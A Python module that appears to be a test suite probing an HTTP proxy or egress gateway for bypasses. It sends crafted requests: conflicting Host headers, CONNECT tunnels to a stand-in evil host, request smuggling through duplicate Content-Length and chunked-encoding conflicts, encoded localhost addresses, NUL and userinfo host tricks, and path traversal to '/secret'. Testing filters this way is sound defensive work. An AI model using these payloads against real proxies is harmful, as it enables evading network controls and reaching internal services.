"""Requests that two programs read differently, and tunnels."""

from .attempts import attempt
from .wire import EVIL, EVIL_NAME, ask, connect, request, tls


@attempt()
def two_hosts(host):
    return ask(tls(host), request(host, "/echo", "GET", f"Host: {EVIL_NAME}"))


@attempt()
def two_hosts_the_other_first(host):
    return ask(tls(host), request(EVIL_NAME, "/echo", "GET", f"Host: {host}"))


@attempt()
def two_hosts_in_the_clear(host):
    return ask(connect(host, 80), request(host, "/echo", "GET", f"Host: {EVIL_NAME}"))


@attempt()
def no_host(host):
    return ask(tls(host), request(None))


@attempt()
def folded_host(host):
    return ask(tls(host), request(host, "/echo", "GET", "X: y", f" Host: {EVIL_NAME}"))


@attempt()
def host_with_space_before_the_colon(host):
    return ask(tls(host), request(host, "/echo", "GET", f"Host : {EVIL_NAME}"))


@attempt()
def absolute_form_against_host(host):
    return ask(tls(host), request(host, f"https://{EVIL_NAME}/echo"))


@attempt()
def host_against_absolute_form(host):
    return ask(tls(host), request(EVIL_NAME, f"https://{host}/echo"))


@attempt()
def absolute_form_in_the_clear(host):
    return ask(connect(host, 80), request(host, f"http://{EVIL_NAME}/echo"))


@attempt()
def absolute_form_of_an_address(host):
    return ask(connect(host, 80), request(host, f"http://{EVIL}/echo"))


@attempt()
def connect_through_the_gate(host):
    return ask(connect(host, 80), request(f"{EVIL_NAME}:443", f"{EVIL_NAME}:443", "CONNECT"))


@attempt()
def connect_to_an_address_through_the_gate(host):
    return ask(connect(host, 80), request(host, f"{EVIL}:443", "CONNECT"))


@attempt()
def connect_inside_tls(host):
    return ask(tls(host), request(host, f"{EVIL_NAME}:443", "CONNECT"))


@attempt()
def connect_to_the_allowed_host_itself(host):
    return ask(tls(host), request(host, f"{host}:443", "CONNECT"))


@attempt()
def hidden_second_request_by_two_lengths(host):
    body = request(EVIL_NAME)
    fields = ["Content-Length: 0", f"Content-Length: {len(body)}"]
    return ask(tls(host), request(host, "/echo", "POST", *fields) + body)


@attempt()
def hidden_second_request_by_length_and_chunks(host):
    body = b"0\r\n\r\n" + request(EVIL_NAME)
    fields = [f"Content-Length: {len(body)}", "Transfer-Encoding: chunked"]
    return ask(tls(host), request(host, "/echo", "POST", *fields) + body)


@attempt()
def numeric_host_2130706433(host):
    return ask(tls(host), request("2130706433"))


@attempt()
def hex_host_0x7f_1(host):
    return ask(tls(host), request("0x7f.1"))


@attempt()
def localhost_with_a_dot(host):
    return ask(tls(host), request("localhost."))


@attempt()
def nul_in_the_host(host):
    return ask(tls(host), request(f"{EVIL_NAME}\0.{host}"))


@attempt()
def userinfo_in_the_host(host):
    return ask(tls(host), request(f"{host}@{EVIL_NAME}"))


@attempt("reading")
def forbidden_method(host):
    stream = tls(host)
    return [ask(stream, request(host)), ask(stream, request(host, "/echo", "POST", "Content-Length: 4") + b"data")]


@attempt("reading")
def method_override(host):
    return ask(tls(host), request(host, "/echo", "GET", "X-HTTP-Method-Override: DELETE"))


@attempt("reading")
def path_climbing(host):
    return ask(tls(host), request(host, "/echo/../secret"))


@attempt("reading")
def path_climbing_encoded(host):
    return ask(tls(host), request(host, "/echo/%2e%2e/secret"))


@attempt()
def websocket_without_a_handshake(host):
    fields = ["Connection: Upgrade", "Upgrade: websocket, other", "Sec-WebSocket-Version: 13"]
    return ask(tls(host), request(host, "/echo", "GET", *fields, "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="))


@attempt()
def upgrade_to_http2_in_the_clear(host):
    fields = ["Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQAAP__"]
    return ask(connect(host, 80), request(host, "/echo", "GET", *fields))
